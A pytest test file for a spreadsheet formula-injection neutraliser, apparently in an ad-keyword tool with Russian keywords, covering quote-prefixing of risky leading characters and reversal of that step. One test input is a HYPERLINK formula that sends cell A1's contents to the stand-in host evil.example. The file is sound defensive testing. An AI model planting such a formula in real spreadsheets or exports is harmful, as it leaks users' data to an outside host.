import pytest

from core.spreadsheet_safety import neutralise_formula, restore_formula


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("=1+1", "'=1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+7 495 123-45-67", "'+7 495 123-45-67"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("купить диван", "купить диван"),
        ("", ""),
        ("Диваны со скидкой -20%", "Диваны со скидкой -20%"),
    ],
)
def test_it_neutralises_what_a_spreadsheet_would_run(value, safe):
    assert neutralise_formula(value) == safe


@pytest.mark.parametrize("value", ["+на диван", "-бесплатно -своими руками", "---autotargeting"])
def test_direct_operators_stay_in_the_keyword_syntax_columns(value):
    assert neutralise_formula(value, operators=True) == value


def test_a_formula_is_a_formula_in_the_keyword_syntax_columns_too():
    assert neutralise_formula("=1+1", operators=True) == "'=1+1"
    assert neutralise_formula("@SUM(A1)", operators=True) == "'@SUM(A1)"


@pytest.mark.parametrize("value", ["=1+1", "'=1+1", "''@x", "'", "it's", "+на", "", "-a -b"])
@pytest.mark.parametrize("operators", [False, True])
def test_restore_gives_every_value_back(value, operators):
    assert restore_formula(neutralise_formula(value, operators=operators)) == value
